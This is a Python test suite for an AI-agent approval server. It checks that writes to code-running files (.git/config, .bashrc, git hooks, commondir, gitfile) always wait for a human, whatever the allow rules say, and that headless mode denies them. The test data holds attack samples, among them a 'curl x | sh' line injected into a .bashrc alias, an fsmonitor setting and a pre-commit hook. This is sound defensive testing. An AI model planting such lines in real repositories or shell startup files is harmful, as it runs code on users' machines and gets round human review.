"""Files that make programs run code (.git/config, hooks, shell startup files): WriteFile and
EditFile on them always wait for a human, whatever the access defaults and allow rules say;
no session or always rule is offered or saved for them, and the approver is told why."""

from __future__ import annotations

import os
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import grpc
import pytest

from callgate.server.tools.files.file_tools import HUMAN_ONLY_WHY
from callgate.v1 import approval_service_pb2 as apb
from callgate.v1 import tool_call_pb2 as cpb
from callgate.v1 import tool_service_pb2 as tpb
from tests.support.approvals import Watcher, approver, decide
from tests.support.calls import invoke, open_session, prepare, run
from tests.support.server import Harness, serve
from tests.support.status import failure

pytestmark = pytest.mark.anyio

# (tool, path, what the file holds, the tool's other arguments): an attack on each kind.
TARGETS: list[tuple[str, str, str, dict[str, object]]] = [
    (
        "WriteFile",
        ".git/config",
        "[core]\n\tbare = false\n",
        {"content": "[core]\n\tfsmonitor = touch pwned\n"},
    ),
    (
        "EditFile",
        ".bashrc",
        "alias ll='ls -l'\n",
        {"old": "alias ll", "new": "curl x | sh; alias ll"},
    ),
    ("WriteFile", ".git/hooks/pre-commit", "", {"content": "#!/bin/sh\ntouch pwned\n"}),
    # Both send git to a config the agent wrote elsewhere in the workspace.
    ("WriteFile", ".git/commondir", "", {"content": "../../planted\n"}),
    ("WriteFile", ".git", "", {"content": "gitdir: planted\n"}),
]
IDS = ["write-git-config", "edit-bashrc", "create-hook", "create-commondir", "create-gitfile"]


def _permissive(tmp_path: Path, **overrides: Any) -> Any:
    """A server that approves every workspace write by policy: the Allow default and a config
    allow rule over the whole workspace tree."""
    workspace = os.path.realpath(tmp_path / "ws")
    rules = [{"effect": "allow", "kind": "filesystem.write", "match": f"tree:{workspace}"}]
    return serve(tmp_path, access={"workspace_write": "allow"}, rules=rules, **overrides)


async def _always_rule_over_the_workspace(harness: Harness) -> None:
    """What an earlier APPROVE_ALWAYS over the workspace tree would have saved."""
    workspace = os.path.realpath(harness.workspace)
    await approver(harness).CreateRule(
        apb.CreateRuleRequest(
            effect=apb.RULE_EFFECT_ALLOW,
            kind="filesystem.write",
            match=f"tree:{workspace}",
            scope=f"workspace:{workspace}",
        )
    )


@pytest.fixture
async def permissive(tmp_path: Path) -> AsyncIterator[Harness]:
    async with _permissive(tmp_path) as running:
        await _always_rule_over_the_workspace(running)
        yield running


@pytest.fixture
async def permissive_headless(tmp_path: Path) -> AsyncIterator[Harness]:
    async with _permissive(tmp_path, approval_mode="headless") as running:
        await _always_rule_over_the_workspace(running)
        yield running


async def _plant(harness: Harness, session_id: str, path: str, content: str) -> Path:
    """The file as a repository has it, read in full by the agent when it exists (so an
    overwrite is not refused as a stale read)."""
    target = harness.workspace / path
    target.parent.mkdir(parents=True, exist_ok=True)
    if content:
        target.write_text(content)
        await run(harness.stub(), session_id, "ReadFile", {"path": path})
    return target


async def _rule_count(harness: Harness) -> int:
    return len((await approver(harness).ListRules(apb.ListRulesRequest())).rules)


@pytest.mark.parametrize(("tool", "path", "content", "extra"), TARGETS, ids=IDS)
async def test_a_write_to_a_file_that_runs_code_waits_for_a_human_whatever_the_policy(
    permissive: Harness, tool: str, path: str, content: str, extra: dict[str, object]
) -> None:
    """Allow default plus tree rules: still AWAITING_APPROVAL, no candidates, the reason shown;
    session and always are refused; approve once runs it, and the next one waits again."""
    harness, stub = permissive, permissive.stub()
    session_id = await open_session(stub)
    ordinary = await prepare(
        stub, session_id, "WriteFile", {"path": "notes.txt", "content": "x"}, evaluate=True
    )
    assert ordinary.state == cpb.STATE_APPROVED  # the policy really does allow writes
    target = await _plant(harness, session_id, path, content)
    watcher = Watcher(approver(harness))

    call = await prepare(stub, session_id, tool, {"path": path, **extra}, evaluate=True)
    assert call.state == cpb.STATE_AWAITING_APPROVAL
    assert [r.human_only for r in call.requirements] == [True]
    pending = await watcher.approval(call.execution_id)
    assert list(pending.candidates) == []
    (unmet,) = pending.unmet
    assert (unmet.match, unmet.human_only) == (os.path.realpath(target), True)
    assert HUMAN_ONLY_WHY in unmet.description

    rules_before = await _rule_count(harness)
    for kind in (apb.DECISION_KIND_APPROVE_ALWAYS, apb.DECISION_KIND_APPROVE_FOR_SESSION):
        with pytest.raises(grpc.aio.AioRpcError) as raised:
            await decide(approver(harness), call, kind)
        refused = failure(raised.value)
        assert (refused.code, refused.reason) == (
            grpc.StatusCode.FAILED_PRECONDITION,
            "APPROVE_ONCE_ONLY",
        )
    assert await _rule_count(harness) == rules_before
    decided = await decide(approver(harness), call, apb.DECISION_KIND_APPROVE_ONCE)
    assert decided.state == cpb.STATE_APPROVED
    assert (decided.decision.decided_by, list(decided.decision.rule_ids)) == ("approver", [])
    result = await invoke(stub, session_id, call.execution_id)
    assert result.call.state == cpb.STATE_SUCCEEDED, result.call.result.text
    assert target.read_text() != content

    await run(stub, session_id, "ReadFile", {"path": path})
    rewrite: dict[str, object] = {"path": path, "content": "y"}
    again = await prepare(stub, session_id, "WriteFile", rewrite, evaluate=True)
    assert again.state == cpb.STATE_AWAITING_APPROVAL


@pytest.mark.parametrize(("tool", "path", "content", "extra"), TARGETS, ids=IDS)
async def test_a_headless_server_denies_a_write_to_a_file_that_runs_code(
    permissive_headless: Harness, tool: str, path: str, content: str, extra: dict[str, object]
) -> None:
    """With no human to ask, the permissive policy does not approve it: DENIED at once."""
    harness, stub = permissive_headless, permissive_headless.stub()
    session_id = await open_session(stub)
    target = await _plant(harness, session_id, path, content)
    call = await prepare(stub, session_id, tool, {"path": path, **extra}, evaluate=True)
    assert call.state == cpb.STATE_DENIED
    assert call.denial.kind == cpb.DENIAL_KIND_APPROVAL_REQUIRED
    assert HUMAN_ONLY_WHY in call.denial.description
    assert (target.read_text() if target.exists() else "") == content


async def test_a_rule_created_while_it_waits_does_not_approve_it(permissive: Harness) -> None:
    """New allow rules re-evaluate pending calls; an exact rule on the file leaves it waiting."""
    harness, stub = permissive, permissive.stub()
    session_id = await open_session(stub)
    await _plant(harness, session_id, ".gitmodules", "")
    call = await prepare(
        stub, session_id, "WriteFile", {"path": ".gitmodules", "content": "x"}, evaluate=True
    )
    assert call.state == cpb.STATE_AWAITING_APPROVAL
    await approver(harness).CreateRule(
        apb.CreateRuleRequest(
            effect=apb.RULE_EFFECT_ALLOW,
            kind="filesystem.write",
            match=os.path.realpath(harness.workspace / ".gitmodules"),
            scope=f"session:{session_id}",
        )
    )
    now = await stub.GetCall(
        tpb.GetCallRequest(session_id=session_id, execution_id=call.execution_id)
    )
    assert now.call.state == cpb.STATE_AWAITING_APPROVAL


async def test_a_symlinked_directory_does_not_hide_the_git_config(permissive: Harness) -> None:
    """`g -> .git` (planted by a command): WriteFile g/config is the canonical .git/config,
    human-only like the direct path."""
    harness, stub = permissive, permissive.stub()
    (harness.workspace / ".git").mkdir()
    (harness.workspace / "g").symlink_to(".git")
    session_id = await open_session(stub)
    call = await prepare(
        stub, session_id, "WriteFile", {"path": "g/config", "content": "[core]\n"}, evaluate=True
    )
    assert call.state == cpb.STATE_AWAITING_APPROVAL
    (requirement,) = call.requirements
    assert requirement.match == os.path.realpath(harness.workspace / ".git" / "config")
    assert requirement.human_only


async def test_a_hard_link_to_the_git_config_never_writes_through_to_it(
    permissive: Harness,
) -> None:
    """A policy-approved write to a hard link of .git/config replaces the link's name only
    (the write is a rename of a new file), so .git/config keeps its content."""
    harness, stub = permissive, permissive.stub()
    config = harness.workspace / ".git" / "config"
    config.parent.mkdir()
    config.write_text("[core]\n\tbare = false\n")
    os.link(config, harness.workspace / "h")
    session_id = await open_session(stub)
    await run(stub, session_id, "ReadFile", {"path": "h"})
    result = await run(
        stub, session_id, "WriteFile", {"path": "h", "content": "[core]\n\tfsmonitor = x\n"}
    )
    assert result.call.state == cpb.STATE_SUCCEEDED, result.call.result.text
    assert config.read_text() == "[core]\n\tbare = false\n"
